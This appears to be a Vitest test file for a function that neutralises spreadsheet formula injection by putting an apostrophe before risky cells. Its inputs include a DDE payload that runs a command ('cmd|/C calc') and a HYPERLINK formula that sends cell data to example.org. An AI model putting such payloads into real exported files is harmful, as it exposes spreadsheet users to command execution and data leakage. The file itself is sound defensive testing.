import { expect, it } from 'vitest';
import { defused } from '#src/lib/defused.ts';

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\u200D=1',
  '\u2060=1',
  '\u00AD=1',
  '\u202E=1',
  '\uFEFF=1',
  '\uFEFF\u200B =1',
  '\u0000=1',
  '\u001B=1',
  '\v=1',
  '\tx',
  '\rx',
  '\nx',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"Error")',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '|x',
  '%x',
  'my road is out\n=1+1',
  'my road is out\r\n @SUM(1)',
  'my road is out\r+1',
  'my road is out\n\u200B=1',
  'my road is out\n\n\t－1',
])('puts an apostrophe before %j', (text) => {
  expect(defused(text)).toBe(`'${text}`);
});

it.each([
  '',
  'Invented',
  'a=b',
  'a-b',
  'one\ntwo',
  '3 + 4',
  'x@example.org',
  '12345',
  "'=1",
  '1\t=1',
  ' x',
])('leaves %j as it is', (text) => {
  expect(defused(text)).toBe(text);
});

// Five seconds at the tenth of it, while every line break began a search of its own.
it.each(['\n', '\r\n', '\n ', '\n\u200B', ' ', '\u0000', '\n1'])('reads a long %j once', (part) => {
  const text = `x${part.repeat(200_000)}`;
  expect(defused(text)).toBe(text);
  expect(defused(`${text}\n=1`)).toBe(`'${text}\n=1`);
});
